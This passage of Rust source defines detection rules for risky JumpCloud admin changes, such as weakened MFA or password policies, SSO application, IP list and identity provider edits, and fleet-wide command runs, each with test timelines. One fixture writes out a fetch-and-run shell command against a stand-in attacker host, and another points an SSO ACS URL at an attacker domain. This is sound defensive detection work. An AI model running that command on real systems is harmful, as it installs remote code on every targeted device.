//! Area 5: risky configuration changes. Changes that weaken a control are alerts; changes
//! that an admin makes on purpose every so often but that an intruder would also make are
//! "did you expect this?" (DUET) notifications to the admin, one per admin per day per rule.

use jcwatch_model::{Area, Event, Route, Severity};
use serde_json::{Value, json};

use super::{DAY1, actor_or_unknown, history, suppress, threshold, type_in, window};
use crate::fields::{self, FlatChange};
use crate::fixtures::*;
use crate::knob::{Knob, Knobs};
use crate::rule::{Example, Examples, FirstSeenMatch, Hit, Logic, Rule};
use crate::state::Role;

pub(super) fn rules() -> Vec<Rule> {
    vec![
        authn_policy_deleted(),
        authn_policy_weakened(),
        authn_policy_changed(),
        org_security_weakened(),
        ip_list_changed(),
        sso_app_changed(),
        identity_provider_changed(),
        device_policy_changed(),
        command_changed(),
        command_fleet_run(),
        access_workflow_changed(),
        radius_server_changed(),
        alerting_removed(),
        mass_device_wipe(),
    ]
}

fn example(name: &'static str, t: &Timeline) -> Example {
    Example {
        name,
        events: t.events(),
    }
}

/// A change event the DUET and alert rules below read: who did it, and what changed.
fn change_hit(ev: &Event) -> Hit {
    Hit::new(actor_or_unknown(ev)).detail(fields::change_summary(ev))
}

/// Where an admin acted from: the network and the country (`unknown` without an address).
pub(crate) fn admin_place(ev: &Event) -> String {
    let Some(ip) = fields::source_ip(ev) else {
        return "unknown".into();
    };
    let country = ev
        .geoip
        .as_ref()
        .and_then(|g| g.country_code.clone())
        .unwrap_or_default();
    format!("{} {country}", fields::network(ip))
        .trim()
        .to_string()
}

/// Observation for a change notice that is asked about only when it comes from an
/// unfamiliar place: the change itself is the candidate (its place is the value), and
/// everything else an admin does (console logins, other changes) teaches the usual places.
pub(crate) fn gated(ev: &Event, is_change: bool) -> Option<Hit> {
    if matches!(ev.kind(), "admin_create" | "provider_admin_create")
        && let Some(created) = ev.field_str("resource.email")
    {
        return Some(
            Hit::new(created.to_lowercase())
                .role(Role::History)
                .value(CREATED),
        );
    }
    if is_change {
        return Some(change_hit(ev).role(Role::Candidate).value(admin_place(ev)));
    }
    let by_admin = ev
        .initiated_by
        .as_ref()
        .and_then(|p| p.kind.as_deref())
        .is_some_and(|k| k.eq_ignore_ascii_case("admin"));
    let failed_login =
        fields::login_path(ev).is_some() && fields::outcome(ev) != fields::Outcome::Success;
    if !by_admin || failed_login {
        return None;
    }
    let admin = fields::actor_identity(ev)?;
    Some(Hit::new(admin).role(Role::History).value(admin_place(ev)))
}

/// Marks an admin account created inside the history window.
const CREATED: &str = "!created";

/// Asks about a change from an unfamiliar place only when the admin is established (seen
/// before the learning period) or was created recently: an admin nobody has seen yet is a
/// fresh deployment, not an intruder, unless the log shows the account being made.
pub(crate) fn established_or_created(seen: &FirstSeenMatch<'_>, knobs: &Knobs) -> bool {
    let learning = chrono::TimeDelta::from_std(knobs.duration(crate::rule::knobs::LEARNING))
        .unwrap_or(chrono::TimeDelta::hours(12));
    let settled_before = seen.candidate.at - learning;
    seen.history
        .iter()
        .any(|o| o.value.as_deref() == Some(CREATED) || o.at <= settled_before)
}

/// How long an admin must have acted from a network before changes from it are routine.
pub(crate) fn familiar_after() -> Knob {
    Knob::duration(
        crate::rule::knobs::LEARNING,
        "12h",
        "How long before a change the admin must already have been seen at its network for the change to count as routine (an intruder's own first minutes somewhere do not make it familiar).",
    )
}

/// A gated notice's matching example as an intruder makes it: the admin (seen at the office
/// the day before) now acts from Singapore.
pub(crate) fn afar(example: Example) -> Example {
    let mut before = Timeline::new(example.name, "2024-05-05T09:00:00Z");
    before.push(admin_login("it.admin@corp.example"));
    let far = SINGAPORE.via("139.59.221.87");
    let moved = example.events.into_iter().map(|mut event| {
        let by_admin = event.pointer("/initiated_by/email").and_then(Value::as_str)
            == Some("it.admin@corp.example");
        let login = event.get("event_type").and_then(Value::as_str) == Some("admin_login_attempt");
        if by_admin && !login {
            event["client_ip"] = json!(far.ip);
            event["geoip"] = json!({"country_code": far.country, "region_name": far.region,
                "latitude": far.lat, "longitude": far.lon, "timezone": far.timezone});
        }
        event
    });
    Example {
        name: example.name,
        events: before.events().into_iter().chain(moved).collect(),
    }
}

pub(crate) fn afar_all(examples: Vec<Example>) -> Vec<Example> {
    examples.into_iter().map(afar).collect()
}

/// A near-miss for every gated notice: an admin never seen before, as on the first day of a
/// deployment.
fn first_day(name: &'static str, tag: &str, change: Ev) -> Example {
    let mut t = Timeline::new(tag, DAY1);
    t.push(change.by_admin("someone.new@corp.example"));
    Example {
        name,
        events: t.events(),
    }
}

/// A near-miss for every gated notice: the admin logged in from the office the day before
/// and makes the change from there.
fn routine(name: &'static str, tag: &str, change: Ev) -> Example {
    let mut t = Timeline::new(tag, DAY1);
    t.push(admin_login("it.admin@corp.example"));
    t.wait("1d").push(change);
    Example {
        name,
        events: t.events(),
    }
}

const AUTHN_DELETE: &[&str] = &[
    "authnpolicy_delete",
    "authpolicy_delete",
    "authn_policy_delete",
];
const AUTHN_UPDATE: &[&str] = &[
    "authnpolicy_update",
    "authpolicy_update",
    "authn_policy_update",
    "authnpolicy_patch",
];
const AUTHN_CREATE: &[&str] = &[
    "authnpolicy_create",
    "authpolicy_create",
    "authn_policy_create",
];

fn mfa_path(path: &str) -> bool {
    let p = path.to_lowercase();
    ["mfa", "multifactor", "totp", "2fa", "second_factor"]
        .iter()
        .any(|w| p.contains(w))
}

fn text(v: &Option<Value>) -> Option<String> {
    v.as_ref()
        .and_then(|v| v.as_str())
        .map(|s| s.to_lowercase())
}

fn len(v: &Option<Value>) -> usize {
    match v {
        Some(Value::Array(a)) => a.len(),
        Some(Value::Object(o)) => o.len(),
        Some(Value::Null) | None => 0,
        Some(_) => 1,
    }
}

/// How a conditional-access (authentication) policy change loosens it, if it does.
pub(crate) fn authn_weakenings(ev: &Event) -> Vec<String> {
    fields::flat_changes(ev)
        .into_iter()
        .filter(|c| {
            let path = c.path.to_lowercase();
            let leaf = c.leaf();
            let (from, to) = (c.from_flag(), c.to_flag());
            (leaf == "disabled" && to == Some(true) && from != Some(true))
                || (leaf == "enabled" && from == Some(true) && to == Some(false))
                || (mfa_path(&path) && from == Some(true) && to == Some(false))
                || ((leaf == "action" || leaf == "effect")
                    && text(&c.to).as_deref() == Some("allow")
                    && text(&c.from).is_some_and(|f| f != "allow"))
                || (path.contains("exclu") && len(&c.to) > len(&c.from))
        })
        .map(|c| c.describe())
        .collect()
}

/// How an organisation settings change weakens password, lockout or MFA policy, if it does.
pub(crate) fn org_weakenings(ev: &Event) -> Vec<String> {
    let lower =
        |c: &FlatChange| matches!((c.from_number(), c.to_number()), (Some(f), Some(t)) if t < f);
    let higher =
        |c: &FlatChange| matches!((c.from_number(), c.to_number()), (Some(f), Some(t)) if t > f);
    let switched_off = |c: &FlatChange| c.from_flag() == Some(true) && c.to_flag() == Some(false);
    let switched_on = |c: &FlatChange| c.from_flag() != Some(true) && c.to_flag() == Some(true);
    fields::flat_changes(ev)
        .into_iter()
        .filter(|c| {
            let leaf = c.leaf();
            let path = c.path.to_lowercase();
            match leaf.as_str() {
                "minlength" | "lockouttimeinseconds" | "maxhistory" | "minchangeperiodindays" => {
                    lower(c)
                }
                "maxloginattempts" => higher(c) || c.to_number() == Some(0.0),
                "enablemaxloginattempts"
                | "enablelockouttimeinseconds"
                | "enableminlength"
                | "enablemaxhistory"
                | "needssymbolic"
                | "needsnumeric"
                | "needsuppercase"
                | "needslowercase"
                | "enableresetlockoutcounter" => switched_off(c),
                "allowusernamesubstring" => switched_on(c),
                _ if mfa_path(&path) && leaf.starts_with("disable") => switched_on(c),
                _ if mfa_path(&path) || leaf.starts_with("require") => switched_off(c),
                _ => false,
            }
        })
        .map(|c| c.describe())
        .collect()
}

// --- conditional access ------------------------------------------------------------------

fn authn_policy_deleted() -> Rule {
    Rule {
        id: "jc.config.authn_policy_deleted",
        title: "Authentication policy {target} deleted by {actor}",
        description: "A conditional-access (authentication) policy was deleted (authnpolicy_delete, every known spelling). Deleting the policy that requires MFA or blocks countries opens the door it guarded.",
        area: Area::RiskyConfig,
        severity: Severity::High,
        technique: "T1556.009",
        route: Route::Alert,
        first_action: "Confirm with the admin; if unexpected, restore the policy and review logins since the deletion.",
        needs_config: None,
        knobs: vec![suppress("24h")],
        details: &[],
        logic: Logic::Single {
            observe: observe_authn_deleted,
        },
        examples: authn_deleted_examples,
    }
}

fn observe_authn_deleted(ev: &Event, _: &Knobs) -> Option<Hit> {
    type_in(ev, AUTHN_DELETE, &[]).then(|| change_hit(ev))
}

fn authn_deleted_examples() -> Examples {
    let mut deleted = Timeline::new("ap-1", DAY1);
    deleted.push(
        admin_change("authnpolicy_delete", "it.admin@corp.example")
            .on("authn_policy", "Require MFA everywhere"),
    );
    let mut updated = Timeline::new("ap-2", DAY1);
    updated.push(
        admin_change("authnpolicy_update", "it.admin@corp.example")
            .on("authn_policy", "Require MFA everywhere")
            .change("name", Some(json!("MFA")), json!("Require MFA everywhere")),
    );
    Examples {
        config: vec![],
        matching: vec![example("an authentication policy deleted", &deleted)],
        near_miss: vec![example("an authentication policy renamed", &updated)],
    }
}

fn authn_policy_weakened() -> Rule {
    Rule {
        id: "jc.config.authn_policy_weakened",
        title: "Authentication policy {target} weakened by {actor}",
        description: "A conditional-access (authentication) policy was loosened, read from the before and after values of its changes: the policy disabled, its MFA requirement switched off, its action turned to allow, or users or groups excluded from it.",
        area: Area::RiskyConfig,
        severity: Severity::High,
        technique: "T1556.009",
        route: Route::Alert,
        first_action: "Confirm with the admin; if unexpected, revert the change and review logins the looser policy let through.",
        needs_config: None,
        knobs: vec![suppress("24h")],
        details: &[],
        logic: Logic::Single {
            observe: observe_authn_weakened,
        },
        examples: authn_weakened_examples,
    }
}

fn observe_authn_weakened(ev: &Event, _: &Knobs) -> Option<Hit> {
    if !type_in(ev, AUTHN_UPDATE, &[]) {
        return None;
    }
    let weaker = authn_weakenings(ev);
    (!weaker.is_empty()).then(|| {
        Hit::new(actor_or_unknown(ev)).detail(Some(fields::bounded(&weaker.join("; "), 400)))
    })
}

fn authn_update(change: (&str, Option<Value>, Value)) -> Ev {
    admin_change("authpolicy_update", "it.admin@corp.example")
        .on("authn_policy", "Require MFA everywhere")
        .change(change.0, change.1, change.2)
}

fn authn_weakened_examples() -> Examples {
    let mut disabled = Timeline::new("aw-1", DAY1);
    disabled.push(authn_update(("disabled", Some(json!(false)), json!(true))));
    let mut no_mfa = Timeline::new("aw-2", DAY1);
    no_mfa.push(
        admin_change("authnpolicy_update", "it.admin@corp.example")
            .on("authn_policy", "Require MFA everywhere")
            .change(
                "effect",
                Some(json!({"action": "allow", "obligations": {"mfa": {"required": true}}})),
                json!({"action": "allow", "obligations": {"mfa": {"required": false}}}),
            ),
    );
    let mut excluded = Timeline::new("aw-3", DAY1);
    excluded.push(authn_update((
        "targets.userGroups.exclusions",
        Some(json!([])),
        json!(["contractors"]),
    )));
    let mut stricter = Timeline::new("aw-4", DAY1);
    stricter.push(authn_update(("disabled", Some(json!(true)), json!(false))));
    let mut renamed = Timeline::new("aw-5", DAY1);
    renamed.push(authn_update((
        "name",
        Some(json!("MFA")),
        json!("Require MFA everywhere"),
    )));
    Examples {
        config: vec![],
        matching: vec![
            example("the policy disabled", &disabled),
            example("its MFA requirement switched off", &no_mfa),
            example("a group excluded", &excluded),
        ],
        near_miss: vec![
            example("the policy enabled", &stricter),
            example("the policy renamed", &renamed),
        ],
    }
}

fn authn_policy_changed() -> Rule {
    Rule {
        id: "jc.config.authn_policy_changed",
        title: "Authentication policy {target} created or changed by {actor}",
        description: "A conditional-access (authentication) policy was created, or changed in a way not recognised as weakening it (those raise jc.config.authn_policy_weakened instead), by an established (or recently created) admin acting from a network where they were not seen at least learning_period before. New policies decide who logs in from where with what; the same change from the admin's usual office is routine.",
        area: Area::RiskyConfig,
        severity: Severity::Medium,
        technique: "T1556.009",
        route: Route::Duet,
        first_action: "Ask the admin to confirm the change and who it applies to.",
        needs_config: None,
        knobs: vec![suppress("24h"), familiar_after(), history("30d")],
        details: &["new_values", "known_values"],
        logic: Logic::FirstSeen {
            new_entities: true,
            check: Some(established_or_created),
            observe: observe_authn_changed,
        },
        examples: authn_changed_examples,
    }
}

fn observe_authn_changed(ev: &Event, _: &Knobs) -> Option<Hit> {
    let created = type_in(ev, AUTHN_CREATE, &[]);
    let updated = type_in(ev, AUTHN_UPDATE, &[]) && authn_weakenings(ev).is_empty();
    gated(ev, created || updated)
}

fn authn_changed_examples() -> Examples {
    let mut created = Timeline::new("ac-1", DAY1);
    created.push(
        admin_change("authnpolicy_create", "it.admin@corp.example")
            .on("authn_policy", "Allow contractors")
            .change("effect", None, json!({"action": "allow"})),
    );
    let mut renamed = Timeline::new("ac-2", DAY1);
    renamed.push(authn_update((
        "name",
        Some(json!("MFA")),
        json!("Require MFA everywhere"),
    )));
    let mut weakened = Timeline::new("ac-3", DAY1);
    weakened.push(authn_update(("disabled", Some(json!(false)), json!(true))));
    let mut other = Timeline::new("ac-4", DAY1);
    other.push(admin_change("policy_update", "it.admin@corp.example").on("policy", "Screen lock"));
    Examples {
        config: vec![],
        matching: afar_all(vec![
            example("a policy created", &created),
            example("a policy renamed", &renamed),
        ]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "ac-fd",
                admin_change("authnpolicy_create", "x").on("authn_policy", "Require MFA"),
            ),
            routine(
                "the usual admin from the office",
                "ac-r",
                admin_change("authnpolicy_create", "it.admin@corp.example")
                    .on("authn_policy", "Require MFA for contractors"),
            ),
            example("a policy disabled (another rule)", &weakened),
            example("a device policy", &other),
        ],
    }
}

// --- organisation settings ---------------------------------------------------------------

fn org_security_weakened() -> Rule {
    Rule {
        id: "jc.config.org_security_weakened",
        title: "Organisation security settings weakened by {actor}",
        description: "Organisation settings changed to weaken password, lockout or MFA policy, read from the before and after values: a shorter minimum length, fewer character classes, more login attempts or a shorter lockout, lockout switched off, or an MFA requirement switched off. Tightening them, or changing unrelated settings, is left alone.",
        area: Area::RiskyConfig,
        severity: Severity::High,
        technique: "T1556",
        route: Route::Alert,
        first_action: "Confirm with the admin; if unexpected, restore the settings and look for password guessing since the change.",
        needs_config: None,
        knobs: vec![suppress("24h")],
        details: &[],
        logic: Logic::Single {
            observe: observe_org_weakened,
        },
        examples: org_examples,
    }
}

fn observe_org_weakened(ev: &Event, _: &Knobs) -> Option<Hit> {
    if !type_in(
        ev,
        &[
            "organization_update",
            "organization_settings_update",
            "organization_settings_change",
        ],
        &[],
    ) {
        return None;
    }
    let weaker = org_weakenings(ev);
    (!weaker.is_empty()).then(|| {
        Hit::new(actor_or_unknown(ev)).detail(Some(fields::bounded(&weaker.join("; "), 400)))
    })
}

fn org_update(field: &str, from: Value, to: Value) -> Ev {
    admin_change("organization_update", "it.admin@corp.example")
        .set(
            "resource",
            json!({"id": ORG, "type": "organization", "displayName": "Corp"}),
        )
        .change(field, Some(from), to)
}

fn org_examples() -> Examples {
    let policy = |min: u64, attempts: u64, lockout: bool| json!({"minLength": min, "needsSymbolic": true, "enableMaxLoginAttempts": lockout, "maxLoginAttempts": attempts, "lockoutTimeInSeconds": 600});
    let mut weaker = Timeline::new("ow-1", DAY1);
    weaker.push(org_update(
        "settings.passwordPolicy",
        policy(12, 5, true),
        policy(6, 5, false),
    ));
    let mut mfa_off = Timeline::new("ow-2", DAY1);
    mfa_off.push(org_update(
        "settings.requireAdminMFA",
        json!(true),
        json!(false),
    ));
    let mut stronger = Timeline::new("ow-3", DAY1);
    stronger.push(org_update(
        "settings.passwordPolicy",
        policy(8, 10, true),
        policy(14, 5, true),
    ));
    let mut unrelated = Timeline::new("ow-4", DAY1);
    unrelated.push(org_update(
        "settings.contactEmail",
        json!("it@corp.example"),
        json!("security@corp.example"),
    ));
    Examples {
        config: vec![],
        matching: vec![
            example("shorter passwords and no lockout", &weaker),
            example("admin MFA no longer required", &mfa_off),
        ],
        near_miss: vec![
            example("a stricter password policy", &stronger),
            example("a new contact email", &unrelated),
        ],
    }
}

// --- change notices (DUET) ---------------------------------------------------------------

#[allow(clippy::too_many_arguments)]
fn duet(
    id: &'static str,
    title: &'static str,
    description: &'static str,
    severity: Severity,
    technique: &'static str,
    first_action: &'static str,
    observe: fn(&Event, &Knobs) -> Option<Hit>,
    examples: fn() -> Examples,
) -> Rule {
    Rule {
        id,
        title,
        description,
        area: Area::RiskyConfig,
        severity,
        technique,
        route: Route::Duet,
        first_action,
        needs_config: None,
        knobs: vec![suppress("24h"), familiar_after(), history("30d")],
        details: &["new_values", "known_values"],
        logic: Logic::FirstSeen {
            observe,
            check: Some(established_or_created),
            new_entities: true,
        },
        examples,
    }
}

fn ip_list_changed() -> Rule {
    duet(
        "jc.config.ip_list_changed",
        "IP list {target} changed by {actor} ({event_type})",
        "An IP list was created, changed or deleted (iplist_*). IP lists feed conditional-access policies: adding an address to a trusted list lets it skip MFA or a block. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::Medium,
        "T1562.007",
        "Ask the admin which addresses were added or removed and why.",
        observe_ip_list,
        ip_list_examples,
    )
}

fn observe_ip_list(ev: &Event, _: &Knobs) -> Option<Hit> {
    gated(ev, type_in(ev, &[], &["iplist_", "ip_list_"]))
}

fn ip_list_examples() -> Examples {
    let mut updated = Timeline::new("il-1", DAY1);
    updated.push(
        admin_change("iplist_update", "it.admin@corp.example")
            .on("iplist", "Trusted offices")
            .change(
                "ips",
                Some(json!(["82.64.10.0/24"])),
                json!(["82.64.10.0/24", "95.165.133.0/24"]),
            ),
    );
    let mut group = Timeline::new("il-2", DAY1);
    group.push(admin_change("group_update", "it.admin@corp.example").on("user_group", "Sales"));
    Examples {
        config: vec![],
        matching: afar_all(vec![example(
            "an address added to a trusted list",
            &updated,
        )]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "il-fd",
                admin_change("iplist_create", "x").on("iplist", "Offices"),
            ),
            routine(
                "the usual admin from the office",
                "il-r",
                admin_change("iplist_update", "it.admin@corp.example")
                    .on("iplist", "Trusted offices")
                    .change("ips", Some(json!([])), json!(["82.64.10.0/24"])),
            ),
            example("a user group changed", &group),
        ],
    }
}

fn sso_app_changed() -> Rule {
    duet(
        "jc.config.sso_app_changed",
        "SSO application {target} changed by {actor} ({event_type})",
        "An SSO application was created, changed or deleted, or its attribute mapping changed (application_*, integrationattribute_*). A rogue SAML application, or a changed ACS URL or certificate, hands out sign-ins to someone else. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::Medium,
        "T1484.002",
        "Ask the admin to confirm the application change, especially any new certificate, ACS URL or attribute mapping.",
        observe_sso_app,
        sso_app_examples,
    )
}

fn observe_sso_app(ev: &Event, _: &Knobs) -> Option<Hit> {
    if ev.service.as_deref().is_some_and(|s| s != "directory") {
        return None;
    }
    gated(
        ev,
        type_in(
            ev,
            &[
                "application_create",
                "application_update",
                "application_delete",
            ],
            &["integrationattribute_"],
        ),
    )
}

fn sso_app_examples() -> Examples {
    let mut away = Timeline::new("sa-2x", DAY1);
    away.push(admin_login("it.admin@corp.example"));
    away.wait("1d").push(
        admin_change("application_create", "it.admin@corp.example")
            .from(&SINGAPORE)
            .on("application", "AWS Console (break-glass)"),
    );
    let mut intruder = Timeline::new("sa-3x", DAY1);
    intruder.push(
        admin_change("admin_create", "it.admin@corp.example")
            .on_admin("it.helpdesk@proton.example"),
    );
    intruder.wait("2h").push(
        admin_change("authnpolicy_delete", "it.helpdesk@proton.example")
            .from(&SINGAPORE)
            .on("authn_policy", "Require MFA"),
    );
    intruder.wait("3m").push(
        admin_change("application_create", "it.helpdesk@proton.example")
            .from(&SINGAPORE)
            .on("application", "AWS Console (break-glass)"),
    );
    let mut acs = Timeline::new("sa-1", DAY1);
    acs.push(
        admin_change("application_update", "it.admin@corp.example")
            .on("application", "Salesforce")
            .change(
                "config.acsUrl",
                Some(json!("https://corp.my.salesforce.com")),
                json!("https://login.evil.example/acs"),
            ),
    );
    let mut software = Timeline::new("sa-2", DAY1);
    software.push(
        Ev::new("software_add", "software")
            .set("application", json!({"name": "Slack", "version": "4.36"}))
            .set("system", json!({"id": object_id("JDOE-LAPTOP")}))
            .ok(true),
    );
    Examples {
        config: vec![],
        matching: afar_all(vec![
            example(
                "an application's ACS URL changed by an admin never seen before",
                &acs,
            ),
            example(
                "the usual admin creates an application from Singapore",
                &away,
            ),
        ]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "sa-fd",
                admin_change("application_create", "x").on("application", "Notion"),
            ),
            routine(
                "the usual admin adds an application from the office",
                "sa-r",
                admin_change("application_create", "it.admin@corp.example")
                    .on("application", "Notion"),
            ),
            example("software installed on a laptop", &software),
        ],
    }
}

fn identity_provider_changed() -> Rule {
    duet(
        "jc.config.identity_provider_changed",
        "Identity source {target} changed by {actor} ({event_type})",
        "An identity source or directory integration was created, changed or deleted: identity providers (idsource_*), Active Directory, Google Workspace, Microsoft 365, Workday, Samba domains, SCIM integrations and domains. Whoever controls an identity source controls who can log in. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::High,
        "T1484.002",
        "Ask the admin to confirm the integration change and who set it up.",
        observe_identity_provider,
        identity_provider_examples,
    )
}

fn observe_identity_provider(ev: &Event, _: &Knobs) -> Option<Hit> {
    gated(
        ev,
        type_in(
            ev,
            &["integration_activate", "integration_deactivate"],
            &[
                "idsource_",
                "activedirectory_",
                "gsuite_directory_",
                "o365_directory_",
                "workday_",
                "sambadomain_",
                "integration_domain_",
                "integration_default_domain_",
                "identity_provider_",
            ],
        ),
    )
}

fn identity_provider_examples() -> Examples {
    let mut idp = Timeline::new("ip-1", DAY1);
    idp.push(
        admin_change("idsource_create", "it.admin@corp.example").on("idsource", "Partner IdP"),
    );
    let mut app = Timeline::new("ip-2", DAY1);
    app.push(
        admin_change("user_update", "it.admin@corp.example")
            .on_user("jane.doe")
            .change("department", Some(json!("Sales")), json!("Marketing")),
    );
    Examples {
        config: vec![],
        matching: afar_all(vec![example("a new identity provider", &idp)]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "ip-fd",
                admin_change("idsource_create", "x").on("idsource", "Okta"),
            ),
            routine(
                "the usual admin from the office",
                "ip-r",
                admin_change("gsuite_directory_update", "it.admin@corp.example")
                    .on("gsuite", "corp.example"),
            ),
            example("a user's department changed", &app),
        ],
    }
}

fn device_policy_changed() -> Rule {
    duet(
        "jc.config.device_policy_changed",
        "Device policy {target} changed by {actor} ({event_type})",
        "A device policy was created, changed or deleted (policy_*): disk encryption, screen lock, firewall and the like on every managed device. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::Low,
        "T1484",
        "Ask the admin to confirm the policy change.",
        observe_device_policy,
        device_policy_examples,
    )
}

fn observe_device_policy(ev: &Event, _: &Knobs) -> Option<Hit> {
    gated(
        ev,
        type_in(
            ev,
            &["policy_create", "policy_update", "policy_delete"],
            &[],
        ),
    )
}

fn device_policy_examples() -> Examples {
    let mut deleted = Timeline::new("dp-1", DAY1);
    deleted.push(admin_change("policy_delete", "it.admin@corp.example").on("policy", "FileVault"));
    let mut authn = Timeline::new("dp-2", DAY1);
    authn.push(
        admin_change("authnpolicy_create", "it.admin@corp.example")
            .on("authn_policy", "Allow office"),
    );
    Examples {
        config: vec![],
        matching: afar_all(vec![example("disk encryption policy deleted", &deleted)]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "dp-fd",
                admin_change("policy_create", "x").on("policy", "FileVault"),
            ),
            routine(
                "the usual admin tightens a policy from the office",
                "dp-r",
                admin_change("policy_update", "it.admin@corp.example")
                    .on("policy", "Screen lock")
                    .change("values.timeout", Some(json!(900)), json!(300)),
            ),
            example("an authentication policy (another rule)", &authn),
        ],
    }
}

fn command_changed() -> Rule {
    duet(
        "jc.config.command_changed",
        "JumpCloud command {target} created or changed by {actor}",
        "A JumpCloud command (a script pushed to devices) was created, changed or deleted, or command results or command files were changed or deleted (command_*, commandresult_delete, file_*). Commands run with root or SYSTEM rights on every device they target. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::Low,
        "T1072",
        "Ask the admin to confirm the command and read its script.",
        observe_command_change,
        command_changed_examples,
    )
}

fn observe_command_change(ev: &Event, _: &Knobs) -> Option<Hit> {
    gated(
        ev,
        type_in(
            ev,
            &[
                "command_create",
                "command_update",
                "command_delete",
                "commandresult_delete",
                "file_create",
                "file_update",
                "file_delete",
            ],
            &[],
        ),
    )
}

fn command_changed_examples() -> Examples {
    let mut created = Timeline::new("cc-1", DAY1);
    created.push(
        admin_change("command_create", "it.admin@corp.example")
            .on("command", "update-agent")
            .change(
                "command",
                None,
                json!("curl -s https://evil.example/x | sh"),
            ),
    );
    let mut ran = Timeline::new("cc-2", DAY1);
    ran.push(admin_change("command_run", "it.admin@corp.example").on("command", "update-agent"));
    Examples {
        config: vec![],
        matching: afar_all(vec![example("a command created", &created)]),
        near_miss: vec![
            first_day(
                "an admin never seen before (a fresh deployment)",
                "cc-fd",
                admin_change("command_create", "x").on("command", "Weekly patch check"),
            ),
            routine(
                "the usual admin from the office",
                "cc-r",
                admin_change("command_update", "it.admin@corp.example")
                    .on("command", "Weekly patch check"),
            ),
            example("a command run (another rule)", &ran),
        ],
    }
}

// --- commands across many systems --------------------------------------------------------

fn command_targets(ev: &Event) -> Vec<String> {
    let mut out = Vec::new();
    let object_name = |v: &Value| match v {
        Value::String(s) => Some(s.clone()),
        Value::Object(o) => ["id", "_id", "object_id", "hostname", "name"]
            .iter()
            .find_map(|k| o.get(*k).and_then(|v| v.as_str()).map(str::to_string)),
        _ => None,
    };
    if let Some(system) = ev.field("system").and_then(object_name) {
        out.push(system);
    }
    if ev.resource.as_ref().and_then(|r| r.kind.as_deref()) == Some("system")
        && let Some(id) = ev
            .resource
            .as_ref()
            .and_then(|r| r.id.clone().or(r.hostname.clone()))
    {
        out.push(id);
    }
    for path in [
        "systems",
        "resource.systems",
        "targets",
        "resource.targets",
        "system_ids",
        "resource.system_ids",
    ] {
        if let Some(Value::Array(items)) = ev.field(path) {
            out.extend(items.iter().filter_map(object_name));
        }
    }
    if out.is_empty() {
        out.push(ev.id.clone());
    }
    out
}

fn command_fleet_run() -> Rule {
    Rule {
        id: "jc.config.command_fleet_run",
        title: "{actor} ran commands on {distinct_count} systems within {window}",
        description: "JumpCloud commands run by one admin on many systems in a short time (command_run, counting distinct target systems, or runs when the event does not name them). Pushing a script to the whole fleet is how an intruder with admin access deploys malware.",
        area: Area::RiskyConfig,
        severity: Severity::High,
        technique: "T1072",
        route: Route::Alert,
        first_action: "Confirm with the admin and read the command; if unexpected, stop it, isolate the systems and revoke the admin's access.",
        needs_config: None,
        knobs: vec![
            suppress("24h"),
            threshold(10, "Distinct systems (or runs) per admin."),
            window("1h"),
        ],
        details: &["distinct_count", "distinct", "threshold"],
        logic: Logic::Threshold {
            observe: observe_command_run,
            distinct: true,
        },
        examples: fleet_examples,
    }
}

fn observe_command_run(ev: &Event, _: &Knobs) -> Option<Hit> {
    if !type_in(
        ev,
        &["command_run", "command_execute", "command_trigger"],
        &[],
    ) {
        return None;
    }
    Some(Hit::new(actor_or_unknown(ev)).values(command_targets(ev)))
}

fn fleet_examples() -> Examples {
    let host = |i: usize| format!("LAPTOP-{i:03}");
    let mut per_system = Timeline::new("cf-1", DAY1);
    per_system.repeat(14, "10s", |i| {
        admin_change("command_run", "it.admin@corp.example")
            .on("command", "update-agent")
            .set(
                "system",
                json!({"id": object_id(&host(i)), "hostname": host(i)}),
            )
    });
    let mut listed = Timeline::new("cf-2", DAY1);
    let systems: Vec<Value> = (0..20)
        .map(|i| json!({"id": object_id(&host(i)), "hostname": host(i)}))
        .collect();
    listed.push(
        admin_change("command_run", "it.admin@corp.example")
            .on("command", "update-agent")
            .set("systems", Value::Array(systems)),
    );
    let mut few = Timeline::new("cf-3", DAY1);
    few.repeat(3, "1m", |i| {
        admin_change("command_run", "it.admin@corp.example")
            .on("command", "restart-agent")
            .set(
                "system",
                json!({"id": object_id(&host(i)), "hostname": host(i)}),
            )
    });
    Examples {
        config: vec![],
        matching: vec![
            example("a command run on fourteen systems", &per_system),
            example("one run listing twenty systems", &listed),
        ],
        near_miss: vec![example("a command run on three systems", &few)],
    }
}

// --- more change notices -----------------------------------------------------------------

fn access_workflow_changed() -> Rule {
    duet(
        "jc.config.access_workflow_changed",
        "Access request workflow changed by {actor} ({event_type})",
        "An access-request approval flow or its settings were created, changed or deleted (access_management_approval_flow_*, and the older access_management_workflow_* spelling). Whoever changes approvals can grant themselves access without review. Asked about when an established admin (or one whose account was created recently) acts from a network where they were not seen at least learning_period before; the same change from the admin's usual office is routine, and an admin nobody has seen yet (a fresh deployment) is left alone.",
        Severity::Low,
        "T1098",
        "Ask the admin to confirm the approval-flow change.",
        observe_access_workflow,
        access_workflow_examples,
    )
}

fn observe_access_workflow(ev: &Event, _: &Knobs) -> Option<Hit> {
    gated(
        ev,
        type_in(
            ev,
            &["access_management_access_request_settings_update"],
            &[
                "access_management_approval_flow_",
                "access_management_workflow_",
            ],
        ),
    )
}

fn access_workflow_examples() -> Examples {
    let mut flow = Timeline::new("aw-1x", DAY1);
    flow.push(
        admin_change(
            "access_management_approval_flow_update",
            "it.admin@corp.example",
        )
